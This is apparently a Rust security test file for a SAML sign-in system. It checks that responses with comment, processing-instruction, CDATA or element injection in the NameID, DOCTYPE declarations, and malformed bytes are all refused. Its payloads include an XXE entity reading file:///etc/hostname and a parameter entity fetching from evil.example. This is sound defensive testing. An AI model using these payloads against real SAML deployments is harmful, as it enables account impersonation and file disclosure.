//! Markup that means one thing to whoever signs and another to whoever reads, and text that is
//! none.

use roster_tests::idp::xml::{replaced_once, without_declaration};
use roster_tests::idp::{Shape, post};
use roster_tests::tenant::Tenant;
use roster_tests::{Backend, browser::Browser};

use super::{ATTACKER, attacker, judge, provider, refused};

const NAME_ID: &str = ">mallory@example.com</saml2:NameID>";
const EMAIL: &str = ">mallory@example.com</saml2:AttributeValue>";

/// The provider itself signs a name with markup in it: whoever reads only the first piece of text
/// takes the account `admin@example.com.evil.example` for `admin@example.com`.
fn split(place: &'static str, markup: &'static str) -> Shape {
    Shape::okta().before_signing(move |xml| {
        let hidden = place.replacen(
            ATTACKER,
            &format!("admin@example.com{markup}.evil.example"),
            1,
        );
        replaced_once(&xml, place, &hidden)
    })
}

#[tokio::test]
async fn a_comment_in_the_name_id() {
    refused(split(NAME_ID, "<!-- -->"), "comment").await;
}

#[tokio::test]
async fn a_comment_in_an_attribute() {
    refused(split(EMAIL, "<!---->"), "comment").await;
}

#[tokio::test]
async fn a_processing_instruction_in_the_name_id() {
    refused(split(NAME_ID, "<?x y?>"), "processing instruction").await;
}

#[tokio::test]
async fn a_processing_instruction_in_an_attribute() {
    refused(split(EMAIL, "<?x?>"), "processing instruction").await;
}

#[tokio::test]
async fn a_cdata_section_in_the_name_id() {
    refused(split(NAME_ID, "<![CDATA[]]>"), "CDATA").await;
}

#[tokio::test]
async fn a_cdata_section_in_an_attribute() {
    refused(split(EMAIL, "<![CDATA[x]]>"), "CDATA").await;
}

#[tokio::test]
async fn an_element_in_the_name_id() {
    let shape = Shape::okta().before_signing(|xml| {
        let nested = ">admin@example.com<x>.evil.example</x></saml2:NameID>";
        replaced_once(&xml, NAME_ID, nested)
    });
    refused(shape, "NameID").await;
}

fn with_doctype(subset: &'static str, name: &'static str) -> Shape {
    Shape::okta().after_signing(move |xml| {
        let named = replaced_once(&xml, NAME_ID, &format!(">{name}</saml2:NameID>"));
        let document = without_declaration(&named);
        format!(r#"<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE r [{subset}]>{document}"#)
    })
}

#[tokio::test]
async fn a_document_type() {
    refused(
        with_doctype("", ATTACKER),
        "a DOCTYPE or another declaration",
    )
    .await;
}

#[tokio::test]
async fn an_external_entity() {
    let subset = r#"<!ENTITY x SYSTEM "file:///etc/hostname">"#;
    refused(
        with_doctype(subset, "&x;"),
        "a DOCTYPE or another declaration",
    )
    .await;
}

#[tokio::test]
async fn an_external_parameter_entity() {
    let subset = r#"<!ENTITY % x SYSTEM "https://evil.example/x"> %x;"#;
    refused(
        with_doctype(subset, ATTACKER),
        "a DOCTYPE or another declaration",
    )
    .await;
}

async fn refused_bytes(bytes: impl Fn(String) -> Vec<u8>, why: &str) {
    let tenant = Tenant::new(Backend::Sqlite);
    let idp = provider();
    idp.connect(&tenant).await;
    let browser = Browser::new(&tenant);
    let request = browser.request_sign_in(None).await;
    let document = bytes(idp.document(&request, &attacker(), &Shape::okta()));
    let relay_state = request.relay_state.as_deref();
    let posted = post_bytes(&document);
    let refused = browser.post_response(&posted, relay_state).await.refused();
    judge(&tenant, &browser, &refused, why).await;
}

fn post_bytes(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

#[tokio::test]
async fn text_that_is_not_utf_8() {
    let latin = |xml: String| {
        let mut bytes = xml.into_bytes();
        let at = bytes.windows(3).position(|three| three == b"Mal").unwrap();
        bytes[at] = 0xE4;
        bytes
    };
    refused_bytes(latin, "UTF-8").await;
}

#[tokio::test]
async fn a_truncated_document() {
    let half = |xml: String| xml.as_bytes()[..xml.len() / 2].to_vec();
    refused_bytes(half, "XML").await;
}

#[tokio::test]
async fn two_documents_in_one() {
    let twice = |xml: String| format!("{xml}{}", without_declaration(&xml)).into_bytes();
    refused_bytes(twice, "XML").await;
}

#[tokio::test]
async fn a_document_that_is_base64_twice() {
    let again = |xml: String| post(&xml).into_bytes();
    refused_bytes(again, "XML").await;
}
